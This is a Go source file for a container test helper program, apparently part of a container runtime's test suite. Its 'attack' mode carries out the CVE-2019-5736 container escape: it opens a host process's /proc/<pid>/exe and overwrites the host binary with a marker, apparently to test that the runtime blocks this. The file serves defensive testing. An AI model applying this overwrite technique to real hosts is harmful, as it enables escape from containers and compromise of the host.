// Command probe is the program of the test containers: statically linked, it
// does what its first argument says.
package main

import (
	"errors"
	"fmt"
	"io"
	"os"
	"os/signal"
	"strconv"
	"syscall"
	"time"
)

func main() {
	if len(os.Args) < 2 {
		return
	}
	switch os.Args[1] {
	case "exit":
		n, _ := strconv.Atoi(os.Args[2])
		os.Exit(n)
	case "print":
		for _, a := range os.Args[2:] {
			fmt.Println(a)
		}
	case "cat":
		for _, p := range os.Args[2:] {
			b, err := os.ReadFile(p)
			fmt.Print(string(b))
			if err != nil {
				fmt.Println(err)
			}
		}
	case "hook":
		b, _ := io.ReadAll(os.Stdin)
		os.WriteFile(os.Args[2], b, 0o644)
	case "attack":
		attack(os.Args[2])
	case "status":
		b, _ := os.ReadFile("/proc/self/status")
		os.Stdout.Write(b)
		l, _ := os.ReadDir("/proc/self/fd")
		for _, e := range l {
			to, _ := os.Readlink("/proc/self/fd/" + e.Name())
			fmt.Println("fd", e.Name(), to)
		}
		for _, e := range os.Environ() {
			fmt.Println("env", e)
		}
	case "wait":
		c := make(chan os.Signal, 1)
		signal.Notify(c, syscall.SIGTERM)
		fmt.Println("ready")
		<-c
		os.Exit(5)
	}
}

// attack waits for a program of the host to run inside, as one does that is
// asked to execute a link to /proc/self/exe, keeps its file open, and overwrites
// it when nobody executes it any more (CVE-2019-5736). What came of it is
// written to a file.
func attack(report string) {
	tell := func(format string, a ...any) {
		os.WriteFile(report+".new", fmt.Appendf(nil, format, a...), 0o644)
		os.Rename(report+".new", report)
	}
	fmt.Println("ready")
	deadline := time.Now().Add(30 * time.Second)
	refused := map[string]bool{}
	for time.Now().Before(deadline) {
		l, _ := os.ReadDir("/proc")
		for _, e := range l {
			if pid, err := strconv.Atoi(e.Name()); err != nil || pid == os.Getpid() {
				continue
			}
			f, err := os.Open("/proc/" + e.Name() + "/exe")
			if err != nil {
				if !os.IsNotExist(err) && !refused[err.Error()] {
					refused[err.Error()] = true
					tell("open refused: %v", errors.Unwrap(err))
				}
				continue
			}
			name, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", f.Fd()))
			if name == "/bin/probe" {
				f.Close()
				continue
			}
			for {
				w, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", f.Fd()), os.O_WRONLY, 0)
				if errors.Is(err, syscall.ETXTBSY) && time.Now().Before(deadline) {
					continue
				}
				if err == nil {
					_, err = w.Write([]byte("#!overwritten"))
				}
				if err == nil {
					tell("overwrote %s", name)
				} else {
					tell("write refused: %v", errors.Unwrap(err))
				}
				return
			}
		}
	}
}
